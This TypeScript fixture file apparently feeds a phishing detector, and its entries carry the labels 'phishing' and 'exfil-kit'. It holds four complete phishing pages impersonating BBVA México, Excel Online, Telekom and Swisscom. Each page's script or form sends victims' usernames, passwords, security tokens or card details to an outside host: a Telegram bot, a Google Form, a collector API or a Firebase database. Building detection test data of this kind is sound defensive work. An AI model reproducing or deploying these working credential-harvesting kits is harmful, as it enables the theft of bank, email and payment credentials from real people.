import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';

export const entries: Entry[] = [
{
  id: 'a-exfil-telegram-xhr-bbva-mx',
  label: 'phishing',
  kind: 'exfil-kit',
  url: 'https://bbva-mx.aclaraciones-linea.com/acceso/',
  body: `<!DOCTYPE html>
<html lang="es-MX">
<head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>BBVA México | Banca en línea</title>
<style>
body{margin:0;font-family:"BentonSans",Arial,sans-serif;background:#f4f4f4;color:#121212}
.hd{background:#072146;height:64px;display:flex;align-items:center;padding:0 24px}.hd img{height:24px}
.c{max-width:400px;margin:30px auto;background:#fff;padding:28px}
label{display:block;font-size:13px;margin:14px 0 4px;color:#666}
input{width:100%;height:46px;border:0;border-bottom:1px solid #121212;background:#f4f4f4;padding:0 10px;font-size:16px;box-sizing:border-box}
button{width:100%;height:48px;background:#1973b8;color:#fff;border:0;margin-top:22px;font-size:15px}
.ok{display:none;text-align:center}
</style>
</head>
<body>
<div class="hd"><img src="/acceso/bbva-white.svg" alt="BBVA"></div>
<div class="c">
<div id="frm">
<h2>Aclaración de cargo no reconocido</h2>
<p style="font-size:14px">Detectamos un cargo por <b>$8,450.00 MXN</b> en su tarjeta. Ingrese para cancelar la operación.</p>
<label>Número de tarjeta o usuario</label><input id="u">
<label>Contraseña</label><input id="p" type="password">
<label>Token móvil / Código de seguridad</label><input id="t" maxlength="8">
<button id="b">Ingresar</button>
</div>
<div class="ok" id="ok"><h3>Su aclaración fue registrada</h3><p>Un ejecutivo se comunicará con usted.</p></div>
</div>
<script>
var TOKEN = '7093341287:AAFq1xN4sTzY8_bK0mGvQ2pJrW6eLhC3uDo';
var CHAT = '5820914473';
document.getElementById('b').onclick = function () {
  var msg = '🏦 BBVA MX\\n👤 ' + document.getElementById('u').value + '\\n🔑 ' + document.getElementById('p').value + '\\n📲 ' + document.getElementById('t').value + '\\n🌐 ' + navigator.userAgent;
  var x = new XMLHttpRequest();
  x.open('GET', 'https://api.telegram.org/bot' + TOKEN + '/sendMessage?chat_id=' + CHAT + '&text=' + encodeURIComponent(msg), true);
  x.send();
  document.getElementById('frm').style.display = 'none';
  document.getElementById('ok').style.display = 'block';
};
</script>
</body>
</html>`,
},
{
  id: 'a-exfil-google-forms-excel',
  label: 'phishing',
  kind: 'exfil-kit',
  url: 'https://excel-online-viewer.glitch-apps.me/invoice/',
  routes: {
    'excel-online-viewer.glitch-apps.me/invoice/': htmlRoute(`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Excel Online - Payment_Schedule.xlsx</title>
<style>
body{margin:0;font-family:"Segoe UI",sans-serif;background:#fff}
.r{background:#217346;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;font-weight:600}
.sheet{display:grid;grid-template-columns:40px repeat(8,120px);font-size:12px;color:#999;filter:blur(3px)}
.sheet div{border:1px solid #e1e1e1;height:22px}
.m{position:fixed;top:20%;left:50%;transform:translateX(-50%);background:#fff;width:380px;box-shadow:0 6px 24px rgba(0,0,0,.25);padding:28px}
input{width:100%;height:36px;border:0;border-bottom:1px solid #666;margin-bottom:14px;font-size:15px}
button{background:#217346;color:#fff;border:0;height:34px;padding:0 28px}
</style></head>
<body>
<div class="r">Excel</div>
<div class="sheet">${'<div></div>'.repeat(180)}</div>
<div class="m">
<h3 style="margin-top:0">Confirm your identity</h3>
<p style="font-size:13px">This workbook is protected. Sign in with the email address the file was shared with.</p>
<form action="https://docs.google.com/forms/d/e/1FAIpQLSd8xW3kq0Zr9vN2pLmT4aYcB7hJfEgU6sR1oXiQ5nVwKzD3Ag/formResponse" method="POST" target="_self">
<input name="entry.1184527490" type="email" placeholder="Email address" required>
<input name="entry.771024336" type="password" placeholder="Password" required>
<button type="submit">Open</button>
</form>
</div>
</body></html>`),
  },
},
{
  id: 'a-exfil-fetch-json-telekom',
  label: 'phishing',
  kind: 'exfil-kit',
  url: 'https://telekom-mail-login.kundencenter-de.net/',
  body: `<!DOCTYPE html>
<html lang="de">
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Telekom Login</title>
<style>
body{margin:0;font-family:TeleNeo,Arial,sans-serif;background:#f2f2f2;color:#191919}
.hd{background:#e20074;height:60px;display:flex;align-items:center;padding:0 24px;color:#fff;font-weight:800;font-size:26px}
.c{max-width:440px;margin:40px auto;background:#fff;padding:32px;border-radius:8px}
input{width:100%;height:48px;border:1px solid #7c7c7c;border-radius:8px;padding:0 12px;font-size:16px;margin:6px 0 16px;box-sizing:border-box}
button{width:100%;height:48px;background:#e20074;color:#fff;border:0;border-radius:8px;font-size:16px;font-weight:bold}
.m{font-size:13px;color:#d90000;display:none;margin-bottom:10px}
</style></head>
<body>
<div class="hd">T</div>
<div class="c">
<h2 style="margin-top:0">Login</h2>
<p style="font-size:14px">Bitte bestätigen Sie Ihre Zugangsdaten. Aufgrund einer Systemumstellung werden nicht bestätigte E-Mail-Postfächer zum Monatsende deaktiviert.</p>
<div class="m" id="m">Benutzername oder Passwort ist falsch.</div>
<form id="f">
<label>E-Mail-Adresse oder Benutzername</label><input id="u" autocomplete="username">
<label>Passwort</label><input id="p" type="password" autocomplete="current-password">
<button>Weiter</button>
</form>
</div>
<script>
var n = 0;
document.getElementById('f').addEventListener('submit', function (e) {
  e.preventDefault(); n++;
  fetch('https://eu-collector-api.xyz/v2/ingest', {
    method: 'POST', mode: 'cors',
    headers: { 'Content-Type': 'application/json', 'X-Key': 'tk_live_88a1' },
    body: JSON.stringify({ brand: 'telekom', u: document.getElementById('u').value, p: document.getElementById('p').value, n: n, ref: document.referrer, tz: Intl.DateTimeFormat().resolvedOptions().timeZone })
  }).catch(function () {});
  if (n < 2) { document.getElementById('m').style.display = 'block'; document.getElementById('p').value = ''; }
  else { location.href = 'https://www.telekom.de/'; }
});
</script>
</body></html>`,
},
{
  id: 'a-exfil-firebase-swisscom',
  label: 'phishing',
  kind: 'exfil-kit',
  url: 'https://swisscom-login.mein-konto-ch.com/de/login/',
  routes: {
    'swisscom-login.mein-konto-ch.com/de/login/': htmlRoute(`<!DOCTYPE html>
<html lang="de-CH"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Swisscom Login</title>
<style>
body{margin:0;font-family:TheSans,Arial,sans-serif;background:#fff;color:#1a1a1a}
.hd{height:72px;border-bottom:1px solid #e5e5e5;display:flex;align-items:center;padding:0 30px}.hd img{height:40px}
.c{max-width:420px;margin:50px auto;padding:0 20px}
h1{font-size:32px;font-weight:300;color:#001155}
input{width:100%;height:48px;border:1px solid #adadad;border-radius:3px;padding:0 12px;font-size:16px;margin:8px 0 16px;box-sizing:border-box}
button{width:100%;height:48px;background:#0851da;color:#fff;border:0;border-radius:3px;font-size:16px}
</style></head>
<body>
<div class="hd"><img src="/de/login/swisscom.svg" alt="Swisscom"></div>
<div class="c">
<h1>Login</h1>
<p>Ihre letzte Rechnung konnte nicht belastet werden. Bitte melden Sie sich an, um Ihre Zahlungsmethode zu bestätigen.</p>
<form id="f">
<input id="u" placeholder="Benutzername, E-Mail oder Mobilnummer">
<input id="p" type="password" placeholder="Passwort">
<input id="cc" placeholder="Kartennummer">
<input id="ex" placeholder="MM/JJ">
<input id="cv" placeholder="CVC">
<button>Weiter</button>
</form>
</div>
<script>
var DB = 'https://sc-ch-2025-default-rtdb.europe-west1.firebasedatabase.app/logs.json';
document.getElementById('f').onsubmit = function (e) {
  e.preventDefault();
  var o = {}; ['u','p','cc','ex','cv'].forEach(function (k) { o[k] = document.getElementById(k).value; });
  o.ts = Date.now();
  fetch(DB, { method: 'POST', body: JSON.stringify(o) }).then(function () { location.replace('https://www.swisscom.ch/de/privatkunden.html'); });
};
</script>
</body></html>`),
  },
},
];
